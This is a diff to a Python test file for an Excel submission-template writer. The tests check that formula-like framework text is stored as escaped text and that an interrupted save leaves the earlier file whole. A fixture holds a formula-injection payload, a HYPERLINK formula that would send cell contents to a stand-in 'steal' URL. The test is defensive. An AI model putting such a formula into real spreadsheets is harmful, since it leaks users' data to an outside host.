@@ -1,5 +1,6 @@
-"""The Excel submission template: dropdowns from the framework, the criteria in full, and the round
-trip — the template filled with the 65 sample rows ingests and validates with no finding."""
+"""The Excel submission template: dropdowns from the framework, the criteria in full, the round trip —
+the template filled with the 65 sample rows ingests and validates with no finding — and the framework's
+text written as text, never as formulas, in a file that appears whole or not at all."""
 
 from __future__ import annotations
 
@@ -7,12 +8,14 @@ import io
 from pathlib import Path
 
 import pandas as pd
+import pytest
+import yaml
 from openpyxl import load_workbook
 from openpyxl.utils import column_index_from_string
 from typer.testing import CliRunner
 
 from reporting.cli import app
-from reporting.framework import load_framework
+from reporting.framework import Framework, load_framework
 from reporting.ingest import EVIDENCE_COLUMNS, ReceivedFile, assemble_package, read_received
 from reporting.submission_template import write_submission_template
 from reporting.validate import validate_package
@@ -89,3 +92,56 @@ def test_the_filled_template_ingests_with_zero_findings(tmp_path: Path) -> None:
     pd.testing.assert_series_equal(
         checked.evidence.clean["result_achieved"], rows["result_achieved"], check_names=False
     )
+
+
+HYPERLINK = '=HYPERLINK("http://example.org/steal?d="&A1,"click")'
+
+
+def hostile_framework() -> Framework:
+    """The sample framework with formulas, and a control character, where a framework has text."""
+    data = yaml.safe_load(FRAMEWORK.read_text(encoding="utf-8"))
+    outcome = data["outcomes"][0]
+    outcome["id"] = "@SUM(1+1)"
+    outcome["title"] = "+" + outcome["title"]
+    indicator = outcome["indicators"][0]
+    indicator["id"] = "-7.1"
+    indicator["title"] = "=" + indicator["title"]
+    indicator["reportability"] = "\tAt least two criteria\x07"
+    indicator["criteria"][0]["text"] = HYPERLINK
+    return Framework.model_validate(data)
+
+
+def test_framework_text_is_written_as_text_never_as_a_formula(tmp_path: Path) -> None:
+    framework = hostile_framework()
+    outcome = framework.outcomes[0]
+    workbook = load_workbook(write_submission_template(framework, tmp_path / "template.xlsx"))
+    cells = [c for name in ("instructions", "lists") for row in workbook[name].iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert {
+        "'" + HYPERLINK,  # criterion
+        "'" + outcome.title,
+        "'" + outcome.indicators[0].title,
+        "'\tAt least two criteria\ufffd",  # reportability, without the control character
+        "'@SUM(1+1)",  # outcome id in the dropdown list
+        "Outcome @SUM(1+1)",
+        "'-7.1",  # indicator id in the dropdown list
+    } <= {c.value for c in cells}
+
+
+def test_an_interrupted_write_leaves_the_earlier_template_whole(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from openpyxl import Workbook
+
+    out = write_submission_template(load_framework(FRAMEWORK), tmp_path / "template.xlsx")
+    before = out.read_bytes()
+
+    def killed(workbook: Workbook, filename: str | Path) -> None:
+        Path(filename).write_bytes(before[:100])  # half a file, then the command dies
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr(Workbook, "save", killed)
+    with pytest.raises(KeyboardInterrupt):
+        write_submission_template(hostile_framework(), out)
+    assert out.read_bytes() == before
+    assert [p.name for p in tmp_path.iterdir()] == ["template.xlsx"]
